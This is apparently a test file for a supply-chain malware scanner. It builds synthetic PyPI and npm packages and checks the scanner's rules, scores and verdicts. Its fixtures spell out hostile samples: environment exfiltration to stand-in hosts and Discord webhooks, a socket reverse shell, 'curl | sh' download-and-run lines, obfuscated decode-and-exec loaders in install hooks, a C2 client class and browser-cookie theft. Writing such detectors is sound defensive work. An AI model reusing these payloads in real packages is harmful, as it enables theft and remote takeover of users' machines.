    const rule = async (files: Record<string, string>) => scoring(await sdist(files), 'exfiltrates-environment')?.message
    // the source returned from another module, sent here; a parameter sent in another module, given the data here
    expect(await rule({ 'synthetic_pkg/__init__.py': `import requests\nfrom .collect import grab\nrequests.post('https://collector.example/c', json=grab())\n`, 'synthetic_pkg/collect.py': collect })).toMatch(/flows into requests\.post/)
    expect(await rule({ 'synthetic_pkg/__init__.py': `import os\nfrom .net import send\nsend(dict(os.environ))\n`, 'synthetic_pkg/net.py': net })).toMatch(/send\(\) → network/)
    // three modules: collect → send through a helper that only passes its argument on
    const relay = `from synthetic_pkg import net\ndef forward(payload):\n    net.send(payload)\n`
    expect(await rule({ 'synthetic_pkg/__init__.py': `from .collect import grab\nfrom .relay import forward\nforward(grab())\n`, 'synthetic_pkg/collect.py': collect, 'synthetic_pkg/net.py': net, 'synthetic_pkg/relay.py': relay })).toMatch(/forward\(\) → network/)
    // what crosses is data, not the mere call: a constant sent, or the environment only printed, is no flow
    expect(await rule({ 'synthetic_pkg/__init__.py': `from .collect import version\nfrom .net import send\nsend(version())\n`, 'synthetic_pkg/collect.py': collect, 'synthetic_pkg/net.py': net })).toBeUndefined()
    expect(await rule({ 'synthetic_pkg/__init__.py': `from .collect import grab\nprint(grab())\n`, 'synthetic_pkg/collect.py': collect })).toBeUndefined()
  })

  it('follows data between JavaScript modules: a helper module that posts its argument', async () => {
    const net = `const https = require('https')\nfunction send(data) {\n  const req = https.request({ host: 'collector.example', method: 'POST' })\n  req.write(data)\n  req.end()\n}\nmodule.exports = { send }\n`
    const rule = async (files: Record<string, string>) => scoring(await npm(files, { main: 'index.js' }), 'exfiltrates-environment')?.message
    expect(await rule({ 'index.js': `const net = require('./net')\nnet.send(JSON.stringify(process.env))\n`, 'net.js': net })).toMatch(/\.\/net\.send\(\) → network/)
    expect(await rule({ 'index.js': `const net = require('./net')\nnet.send(JSON.stringify({ ok: true }))\n`, 'net.js': net })).toBeUndefined()
  })

  it('follows data through the methods of a class of the file: a C2 client wrapped in a class', async () => {
    const r = await sdist({
      'synthetic_pkg/__init__.py': `import platform, subprocess
from urllib import request

class Channel:
    def __init__(self):
        self.opener = request.build_opener()

    def fetch(self, url):
        res = request.build_opener().open(url)
        return res.read()

    def report(self, url, data):
        return request.urlopen(request.Request(url, data=data))

channel = Channel()
channel.report('https://c2.example.net/hello', platform.node().encode())
command = channel.fetch('https://c2.example.net/task').decode()
subprocess.Popen(command, shell=True)
`,
    })
    expect(scoring(r, 'downloads-and-executes')).toMatchObject({ file: 'synthetic_pkg/__init__.py', line: 18 })
    expect(scoring(r, 'beacons-system-info')).toMatchObject({ file: 'synthetic_pkg/__init__.py', line: 16 })
  })

  it('keeps builtins and the file\'s own names out of a star import: `from requests import *` then eval', async () => {
    const built = await sdistArtifact({
      'synthetic_pkg/__init__.py': `from requests import *
import base64

def unpack(text):
    return base64.b16decode(text.strip())

reply = get('https://updates.example.net/latest', timeout=3)
eval(unpack(reply.text))
`,
    })
    const r = analyzeArtifact(built.artifact, built.eco)
    expect(scoring(r, 'downloads-and-executes')).toMatchObject({ file: 'synthetic_pkg/__init__.py', line: 8 })
    expect(scoring(r, 'decodes-and-executes')).toMatchObject({ file: 'synthetic_pkg/__init__.py', line: 8 })
    const apis = collectFacts(built.artifact, built.eco).files.find((f) => f.path === 'synthetic_pkg/__init__.py')!.capabilities.map((c) => `${c.cap} ${c.api}`)
    expect(apis).toEqual(expect.arrayContaining(['network requests.get', 'dynamic-code eval']))
    expect(apis.filter((a) => a.startsWith('network'))).toEqual(['network requests.get'])
  })

  it('sees names spelt by picking characters out of a table, and hex groups joined by a separator', async () => {
    const program = Buffer.from("import os\nos.system('id')\n".repeat(12))
    const groups = [...program].map((b) => (b ^ 0x5a).toString(16).padStart(2, '0') + 'a7').join('/')
    const r = await sdist({
      'synthetic_pkg/__init__.py': `class Loader:
    def __init__(self, data):
        self.t = 'abcdefghijklmnopqrstuvwxyz'
        codec = __import__(self.t[1]+self.t[8]+self.t[13]+self.t[0]+self.t[18]+self.t[2]+self.t[8]+self.t[8])
        run = getattr(__builtins__, self.t[4]+self.t[23]+self.t[4]+self.t[2]+self.t[0]+self.t[4])
        name = self.t[3]+self.t[4]+self.t[2]+self.t[14]+self.t[3]+self.t[4]
        run(bytes(b ^ 0x5a for b in codec.unhexlify(''.join(g[:2] for g in data.split('/')))).decode())

Loader('${groups}')
`,
    })
    expect(weighted(r)).toEqual(['encoded-payload', 'obfuscated-code'])
    expect(r.verdict).toBe('hold')
    // numeric code adds a row in order, and decimal tables are data
    const plain = await sdist({
      'synthetic_pkg/__init__.py': `TABLE = '${Array.from({ length: 120 }, (_, i) => (i * 7) % 100).join(',')}'
def total(row):
    return row[0]+row[1]+row[2]+row[3]+row[4]+row[5]+row[6]
def mixed(row):
    return row[0]+row[2]+row[1]+row[3]+row[4]+row[5]
exec('x = 1')
`,
    })
    expect(weighted(plain)).toEqual([])
  })

  it('sees a builtin fetched by a computed name, not one fetched by a variable', async () => {
    const hidden = await sdist({
      'setup.py': setupPy(`import sys\nname = ''.join(map(getattr(__builtins__, oct.__str__()[-3] + hex.__str__()[-4] + copyright.__str__()[4]), [112, 105, 112]))\n`),
    })
    expect(scoring(hidden, 'obfuscated-code')).toMatchObject({ file: 'setup.py', weight: 70 })
    const compat = await sdist({
      'setup.py': setupPy(`import builtins\nfor name in ('input', 'raw_input'):\n    reader = getattr(builtins, name, None)\ncolumns = [getattr(builtins, d.split(':')[1]) for d in 'a:int b:str'.split()]\n`),
    })
    expect(weighted(compat)).toEqual([])
  })

  it('counts the function a console script calls as code that runs when the package is used', async () => {
    const cli = `import requests
def main():
    exec(requests.get('https://files.example.net/agent').text)
def unused():
    exec(requests.get('https://files.example.net/agent').text)
`
    const weight = (r: ScanReport) => scoring(r, 'downloads-and-executes')?.weight
    // declared in setup.py, setup.cfg, pyproject.toml, or a wheel's entry_points.txt
    const setupPyEntry = setupPy(`entry_points = {'console_scripts': ['agent = synthetic_pkg.cli:main']}\n`)
    expect(weight(await sdist({ 'setup.py': setupPyEntry, 'synthetic_pkg/__init__.py': '', 'synthetic_pkg/cli.py': cli }))).toBe(90)
    const cfg = '[metadata]\nname = synthetic-pkg\n\n[options.entry_points]\nconsole_scripts =\n    agent = synthetic_pkg.cli:main\n'
    expect(weight(await sdist({ 'setup.cfg': cfg, 'synthetic_pkg/__init__.py': '', 'synthetic_pkg/cli.py': cli }))).toBe(90)
    const pyproject = '[project]\nname = "synthetic-pkg"\n\n[project.scripts]\nagent = "synthetic_pkg.cli:main"\n'
    expect(weight(await sdist({ 'pyproject.toml': pyproject, 'synthetic_pkg/__init__.py': '', 'synthetic_pkg/cli.py': cli }))).toBe(90)
    const entryPoints = { 'synthetic_pkg-1.0.0.dist-info/entry_points.txt': '[console_scripts]\nagent = synthetic_pkg.cli:main\n', 'synthetic_pkg/__init__.py': '', 'synthetic_pkg/cli.py': cli }
    expect(weight(await wheel(entryPoints))).toBe(90)
    // a plugin group is not a command; a function no command names still waits for a user
    const plugin = { 'synthetic_pkg-1.0.0.dist-info/entry_points.txt': '[pytest11]\nagent = synthetic_pkg.cli:main\n', 'synthetic_pkg/__init__.py': '', 'synthetic_pkg/cli.py': cli }
    expect(weight(await wheel(plugin))).toBe(40)
    const other = { 'synthetic_pkg-1.0.0.dist-info/entry_points.txt': '[console_scripts]\nagent = synthetic_pkg.cli:unused_name\n', 'synthetic_pkg/__init__.py': '', 'synthetic_pkg/cli.py': cli }
    expect(weight(await wheel(other))).toBe(40)
  })

  it('counts an ES module function another module calls at load as load-time code', async () => {
    const util = `export function start() {\n  eval(Buffer.from('${Buffer.from("require('child_process').exec('id')").toString('base64')}', 'base64').toString())\n}\n`
    const weight = async (main: string) => scoring(await npm({ 'index.mjs': main, 'lib/util.mjs': util }, { main: 'index.mjs', type: 'module' }), 'decodes-and-executes')?.weight
    expect(await weight(`import { start } from './lib/util.mjs'\nstart()\n`)).toBe(90)
    expect(await weight(`import * as util from './lib/util.mjs'\nutil.start()\n`)).toBe(90)
    // loaded but only called from a function nothing references: still run time
    expect(await weight(`import { start } from './lib/util.mjs'\nfunction later() { start() }\n`)).toBe(40)
  })

  it('follows data a method stores in a field of its class into another method', async () => {
    const r = await sdist({
      'synthetic_pkg/__init__.py': `import requests

class Updater:
    def fetch(self):
        self.reply = requests.get('https://updates.example.net/next').text

    def apply(self):
        exec(self.reply)

updater = Updater()
updater.fetch()
updater.apply()
`,
    })
    expect(scoring(r, 'downloads-and-executes')).toMatchObject({ file: 'synthetic_pkg/__init__.py', line: 8, weight: 90 })
    // a field of another class is another field
    const other = await sdist({
      'synthetic_pkg/__init__.py': `import requests

class Fetcher:
    def fetch(self):
        self.reply = requests.get('https://updates.example.net/next').text

class Runner:
    def apply(self):
        exec(self.reply)
`,
    })
    expect(scoring(other, 'downloads-and-executes')).toBeUndefined()
  })

  it('resolves `node .` to the main entry and runs it at install', async () => {
    const files = { 'lib/main.js': DECODE_EVAL }
    const manifest = { main: 'lib/main.js' }
    const installed = await npmArtifact(files, { ...manifest, scripts: { postinstall: 'node .' } })
    expect(collectFacts(installed.artifact, installed.eco).roles.get('lib/main.js')).toBe('install')
    const r = analyzeArtifact(installed.artifact, installed.eco)
    expect(scoring(r, 'decodes-and-executes')).toMatchObject({ file: 'lib/main.js', line: 1, weight: 100 })
    // without the hook the same file only runs when imported
    const imported = await npmArtifact(files, manifest)
    expect(collectFacts(imported.artifact, imported.eco).roles.get('lib/main.js')).toBe('import')
    expect(scoring(analyzeArtifact(imported.artifact, imported.eco), 'decodes-and-executes')?.weight).toBe(90)
  })

  it('gives every file of a local require chain the install role', async () => {
    const files = {
      'install.js': `require('./lib/a.js')\n`,
      'lib/a.js': `require('./b')\n`,
      'lib/b.js': ENV_STEALER,
      'lib/unused.js': `module.exports = 1\n`,
    }
    const { artifact, eco } = await npmArtifact(files, postinstall('node install.js'))
    const roles = collectFacts(artifact, eco).roles
    expect(['install.js', 'lib/a.js', 'lib/b.js'].map((p) => roles.get(p))).toEqual(['install', 'install', 'install'])
    expect(roles.get('lib/unused.js')).toBeUndefined()
    const r = analyzeArtifact(artifact, eco)
    expect(scoring(r, 'exfiltrates-environment')).toMatchObject({ file: 'lib/b.js', line: 2, weight: 100 })
    // install-time-network only ever fires for install-time files
    expect(scoring(r, 'install-time-network')).toMatchObject({ file: 'lib/b.js' })
    expect(r.verdict).toBe('hold')
  })

  it('weighs the same payload less when nothing runs it', async () => {
    const r = await npm({ 'lib/b.js': DECODE_EVAL })
    expect(scoring(r, 'decodes-and-executes')).toMatchObject({ file: 'lib/b.js', weight: 40 })
    expect(r.verdict).toBe('publish')
  })
})

describe('programs a file carries as text', () => {
  // a reverse shell written as Python source inside a string: nothing in the host file's own code shows it
  const SHELL = `import socket, subprocess, os
def connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("203.0.113.7", 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    subprocess.call(["/bin/sh", "-i"])
connect()
`
  const cmdclass = (body: string) => `import os, sys, subprocess, tempfile
from setuptools import setup
from setuptools.command.install import install
CODE = """${SHELL}"""
class Hook(install):
    def run(self):
${body
  .split('\n')
  .map((l) => `        ${l}`)
  .join('\n')}
        install.run(self)
setup(name='synthetic-pkg', version='1.0.0', cmdclass={'install': Hook})
`

  const lineOf = (source: string, text: string) => source.split('\n').findIndex((l) => l.includes(text)) + 1

  it('analyses a script a setup.py writes and starts with Python as a file of its own, run at install', async () => {
    const setup = cmdclass(`path = os.path.join(os.getenv('APPDATA'), 'helper.py')\nwith open(path, 'w') as f:\n    f.write(CODE)\nsubprocess.Popen([sys.executable, path])`)
    const r = await sdist({ 'setup.py': setup })
    // named by the line that starts it; lines inside are the program's own
    expect(scoring(r, 'remote-shell')).toMatchObject({ file: `setup.py [program run at line ${lineOf(setup, 'subprocess.Popen')}]`, line: 7, weight: 100 })
    expect(r.verdict).not.toBe('publish')
  })

  it('analyses code handed to python -c and to exec as a string', async () => {
    const inline = await sdist({ 'setup.py': cmdclass(`subprocess.check_call([sys.executable, '-c', CODE])`) })
    expect(scoring(inline, 'remote-shell')).toMatchObject({ file: expect.stringMatching(/^setup\.py \[program run at line \d+\]$/), weight: 100 })
    const evaluated = await sdist({ 'setup.py': cmdclass(`exec(CODE)`) })
    expect(scoring(evaluated, 'remote-shell')).toMatchObject({ file: expect.stringMatching(/^setup\.py \[program run at line \d+\]$/), weight: 100 })
  })

  it('gives a program the run-time weight when its launch sits in a function nothing calls', async () => {
    const init = `import sys, subprocess\nCODE = """${SHELL}"""\ndef start():\n    subprocess.Popen([sys.executable, '-c', CODE])\n`
    const r = await sdist({ 'synthetic_pkg/__init__.py': init })
    // remote-shell's run-time weight for a shell on a socket (import time would be 100)
    expect(scoring(r, 'remote-shell')).toMatchObject({ file: `synthetic_pkg/__init__.py [program run at line ${lineOf(init, 'subprocess.Popen')}]`, weight: 60 })
  })

  it('finds nothing in a program that does nothing suspicious, and keeps a file that only writes source as it was', async () => {
    const r = await sdist({
      'setup.py': `from setuptools import setup\nexec("from os import path as _p")\nopen('synthetic_pkg/_version.py', 'w').write("import socket\\nversion = '1.0.0'\\n")\nsetup(name='synthetic-pkg', version='1.0.0')\n`,
    })
    expect(r.signals.filter((s) => s.weight > 0)).toEqual([])
    const facts = collectFacts((await sdistArtifact({ 'setup.py': `exec("import os\\nos.getcwd()")\nopen('v.py', 'w').write("import os\\n")\n` })).artifact, pypiEcosystem)
    expect(facts.files.map((f) => f.path).filter((p) => p.includes('[program'))).toEqual(['setup.py [program run at line 1]'])
  })

  it('analyses JavaScript handed to eval and to node -e as a file of its own, run with its launch', async () => {
    const SEND_ENV = `require('https').request({ hostname: 'collect.example.net', method: 'POST' }).end(JSON.stringify(process.env))`
    const evaluated = await npm({ 'x.js': `const code = ${JSON.stringify(SEND_ENV)}\neval(code)\n` }, postinstall('node x.js'))
    expect(scoring(evaluated, 'exfiltrates-environment')).toMatchObject({ file: 'x.js [program run at line 2]', weight: 100 })
    const started = await npm({ 'x.js': `require('child_process').exec(${JSON.stringify(`node -e "${SEND_ENV.replace(/"/g, '\\"')}"`)})\n` }, postinstall('node x.js'))
    expect(scoring(started, 'exfiltrates-environment')).toMatchObject({ file: 'x.js [program run at line 1]', weight: 100 })
    // the same eval in a module nothing runs at install or load weighs as run-time code
    const idle = await npm({ 'lib/x.js': `function later() {\n  eval(${JSON.stringify(SEND_ENV)})\n}\nmodule.exports = later\n` })
    expect(scoring(idle, 'exfiltrates-environment')).toMatchObject({ file: 'lib/x.js [program run at line 2]', weight: 70 })
  })

  it('bounds the programs a hostile package carries: parsed up to a budget, the rest scanned as text', async () => {
    // 5 files of 8 programs of ~120 KB each: more programs, and more program source, than a package may parse
    const big = `import os\nos.system('curl -s http://203.0.113.9/x | sh')\n${'x = 1\n'.repeat(20_000)}`
    const body = Array.from({ length: 8 }, (_, i) => `exec(P${i})`).join('\n')
    const module = `${Array.from({ length: 8 }, (_, i) => `P${i} = """# ${i}\n${big}"""`).join('\n')}\n${body}\n`
    const files = Object.fromEntries(Array.from({ length: 5 }, (_, i) => [`synthetic_pkg/m${i}.py`, module]))
    const { artifact, eco } = await sdistArtifact({ ...files, 'synthetic_pkg/__init__.py': '' })
    const facts = collectFacts(artifact, eco)
    const programs = facts.files.filter((f) => f.path.includes('[program run at line'))
    expect(programs.length).toBe(32)
    // what is over the budget is still read for indicators
    const textOnly = programs.filter((f) => f.parseError?.includes('scanned as text'))
    expect(textOnly.length).toBeGreaterThan(0)
    expect(textOnly.every((f) => f.indicators.some((i) => i.kind === 'shell-download'))).toBe(true)
  })

  it('parses the code of a file made too large by modules it carries as strings, and scans their text whole', async () => {
    // a setup.py carrying 1.6 MB of bundled modules in byte strings, then install code that reads what a module names
    const module = `from os import getenv\\r\\nSTORE = getenv('LOCALAPPDATA') + '/Google/Chrome/User Data'\\r\\n${'x = 1\\r\\n'.repeat(4_000)}`
    const bundled = Array.from({ length: 50 }, (_, i) => `write_module('m${i}.py', b"${module}")`).join('\n')
    const setup = `import sys\nfrom setuptools import setup\ndef write_module(path, contents):\n    open(path, 'wb').write(contents)\nsetup(name='synthetic-pkg', version='1.0.0')\n${bundled}\nimport m0\ndata = open(m0.STORE + '/Default/Cookies', 'rb').read()\n`
    expect(setup.length).toBeGreaterThan(1_500_000)
    const r = await sdist({ 'setup.py': setup })
    const file = r.signals.find((s) => s.rule === 'steals-browser-or-wallet-data')
    expect(file, JSON.stringify(r.signals.map((s) => [s.rule, s.weight, s.line]))).toMatchObject({ file: 'setup.py', line: 6 })
    expect(r.verdict).toBe('hold')
  })

  it("reads a cipher's decrypt as decoding: exec(Fernet(key).decrypt(token)) at install", async () => {
    const r = await sdist({
      'setup.py': `from setuptools import setup\nfrom setuptools.command.install import install\nclass Hook(install):\n    def run(self):\n        from fernet import Fernet\n        exec(Fernet(b'c3ludGhldGljLWtleS1ub3QtYS1yZWFsLWtleS0xMjM=').decrypt(b'gAAAAABsynthetic-token'))\n        install.run(self)\nsetup(name='synthetic-pkg', version='1.0.0', cmdclass={'install': Hook})\n`,
    })
    expect(scoring(r, 'decodes-and-executes')).toMatchObject({ file: 'setup.py', line: 6, weight: 100 })
  })

  it("resolves getattr with a literal name: getattr(__import__('base64'), 'b64decode') is the decoder", async () => {
    const encoded = Buffer.from("import os\nos.system('id')\n").toString('base64')
    const r = await sdist({ 'setup.py': `exec(compile(getattr(__import__('base64'), 'b64decode')('${encoded}'), '<x>', 'exec'))\n` })
    expect(scoring(r, 'decodes-and-executes')).toMatchObject({ file: 'setup.py', line: 1, weight: 100 })
    // a name read from data is a lookup, not a known API
    const lookup = await sdist({ 'setup.py': `import base64\nname = open('n.txt').read()\nexec(compile(getattr(base64, name)('${encoded}'), '<x>', 'exec'))\n` })
    expect(scoring(lookup, 'decodes-and-executes')).toBeUndefined()
  })

  it('reads a list of character codes as the text it spells', async () => {
    const codes = (text: string) => `[${[...text].map((c) => c.charCodeAt(0)).join(', ')}]`
    const r = await sdist({ 'synthetic_pkg/__init__.py': `import requests\nHOOK = ${codes('https://discord.com/api/webhooks/123456/abcdef')}\nrequests.post(''.join(chr(c) for c in HOOK), json={'ok': 1})\n` })
    expect(scoring(r, 'exfiltration-endpoint')).toMatchObject({ file: 'synthetic_pkg/__init__.py', line: 2, message: expect.stringContaining('discord.com/api/webhooks') })
    // numbers that are not all printable codes are data
    const data = collectFacts((await sdistArtifact({ 'synthetic_pkg/__init__.py': `TABLE = [104, 116, 116, 112, 115, 58, 47, 300, 47]\n` })).artifact, pypiEcosystem)
    expect(data.files.find((f) => f.path === 'synthetic_pkg/__init__.py')!.indicators).toEqual([])
  })

  it('decodes escape sequences in Python strings and reads parenthesised string constants as commands', async () => {
    const escaped = await sdist({ 'setup.py': `import os\nos.system('\\x63\\x75\\x72\\x6c -s http://203.0.113.9/x.sh | sh')\n` })
    expect(scoring(escaped, 'downloads-and-executes')).toMatchObject({ file: 'setup.py', line: 2, weight: 100 })
    const split = await sdist({ 'setup.py': `import os\nCMD = (\n    'curl -s http://203.0.113.9/x.sh'\n    ' | sh'\n)\nos.system(CMD)\n` })
    expect(scoring(split, 'downloads-and-executes')).toMatchObject({ file: 'setup.py', weight: 100 })
    // raw strings keep their backslashes: a regular expression is not decoded
    const raw = collectFacts((await sdistArtifact({ 'setup.py': `import os\nos.system(r'echo \\x41')\n` })).artifact, pypiEcosystem)
    expect(raw.files.find((f) => f.path === 'setup.py')!.indicators).toEqual([])
  })
})

// ---------------------------------------------------------------------------------------------
// Scoring and the report

describe('scoring and the report', () => {
  it('honours custom thresholds', async () => {
    const { artifact, eco } = await npmArtifact({ 'x.js': ENV_STEALER }, postinstall('node x.js'))
    const byDefault = analyzeArtifact(artifact, eco)
    expect(byDefault).toMatchObject({ verdict: 'hold', score: 125 })
    expect(byDefault.reasons[0]).toBe(`score 125 ≥ review threshold ${DEFAULT_THRESHOLDS.hold}`)
    const lenient = analyzeArtifact(artifact, eco, { thresholds: { hold: 126, reject: 500 } })
    expect(lenient).toMatchObject({ verdict: 'publish', score: 125 })
    expect(lenient.reasons[0]).toBe('score 125 below review threshold 126')
    const strict = analyzeArtifact(artifact, eco, { thresholds: { hold: 50, reject: 125 } })
    expect(strict).toMatchObject({ verdict: 'reject', score: 125 })
    expect(strict.reasons[0]).toBe('score 125 ≥ reject threshold 125')
  })

  it('rejects at the default threshold when several critical rules fire', async () => {
    const r = await npm(
      {
        'x.js': `const cp = require('child_process')
const https = require('https')
cp.exec(Buffer.from('Y3VybCBodHRwOi8vZ2V0LmV4YW1wbGUuY29tL2Euc2ggfCBzaA==', 'base64').toString())
https.request('https://discord.com/api/webhooks/1/abc', { method: 'POST' }).end(JSON.stringify(process.env))
`,
      },
      postinstall('node x.js'),
    )
    expect(weighted(r)).toEqual(expect.arrayContaining(['decodes-and-executes', 'exfiltrates-environment', 'exfiltration-endpoint']))
    expect(r.score).toBeGreaterThanOrEqual(DEFAULT_THRESHOLDS.reject)
    expect(r.verdict).toBe('reject')
  })

  it('records the ruleset version and explains every signal', async () => {
    const r = await npm({ 'x.js': ENV_STEALER }, postinstall('node x.js'))
    expect(r.rulesetVersion).toBe(RULESET_VERSION)
    expect(r.rulesetVersion).toMatch(/^\d{4}\.\d+\.\d+\+[0-9a-f]{12}$/)
    expect(r).toMatchObject({ ecosystem: 'npm', name: 'synthetic-pkg', version: '1.0.0', format: 'npm-tarball' })
    expect(r.signals.length).toBeGreaterThan(0)
    for (const s of r.signals) {
      const rule = ruleById(s.rule)!
      expect(rule, s.rule).toBeDefined()
      expect(s.title).toBe(rule.title)
      expect(s.explanation).toBe(rule.explanation)
      expect(s.explanation.length).toBeGreaterThan(40)
      expect(s.severity).toBe(s.rule === 'install-hook' ? 'info' : severityOf(s.weight))
    }
    const steal = scoring(r, 'exfiltrates-environment')!
    expect(steal.excerpt).toContain('JSON.stringify(process.env)')
    expect(r.reasons).toContain(`exfiltrates-environment: ${steal.message}`)
  })

  it('counts each rule once, with its strongest hit', async () => {
    const r = await npm(
      {
        // a run-time helper nobody calls (weak), and the install script (strong)
        'lib/util.js': `function run(s) { return eval(Buffer.from(s, 'base64').toString()) }\nmodule.exports = run\n`,
        'x.js': DECODE_EVAL,
        'y.js': DECODE_EVAL,
      },
      { scripts: { preinstall: 'node x.js', postinstall: 'node y.js' } },
    )
    const hits = r.signals.filter((s) => s.rule === 'decodes-and-executes')
    expect(hits.map((s) => s.file).sort()).toEqual(['lib/util.js', 'x.js', 'y.js'])
    expect(hits.filter((s) => s.weight > 0)).toEqual([expect.objectContaining({ weight: 100 })])
    expect(hits.find((s) => s.file === 'lib/util.js')!.weight).toBe(0)
    expect(r.score).toBe(100)
    expect(r.score).toBe(r.signals.reduce((sum, s) => sum + s.weight, 0))
  })

  it('scans a 3 MB minified bundle as text instead of failing, and still finds indicators in it', async () => {
    const chunk = 'function a(b,c){return b+c}var d=a(1,2),e=[d,a(d,3)].map(function(f){return f*2});'
    const bundle = chunk.repeat(Math.ceil(3_000_000 / chunk.length))
    expect(bundle.length).toBeGreaterThanOrEqual(3_000_000)
    const quiet = await npm({ 'dist/bundle.min.js': bundle })
    expect(quiet.stats).toMatchObject({ files: 3, parseErrors: 0, textOnly: 1 })
    expect(quiet).toMatchObject({ verdict: 'publish', score: 0 })

    const loud = await npm({ 'dist/bundle.min.js': `${bundle}var p="${HIDDEN_PS}";` }, postinstall('node dist/bundle.min.js'))
    expect(loud.stats).toMatchObject({ textOnly: 1, parseErrors: 0 })
    expect(scoring(loud, 'hidden-powershell')).toMatchObject({ file: 'dist/bundle.min.js', line: 1, weight: 70 })
    expect(loud.verdict).toBe('hold')
  })
})
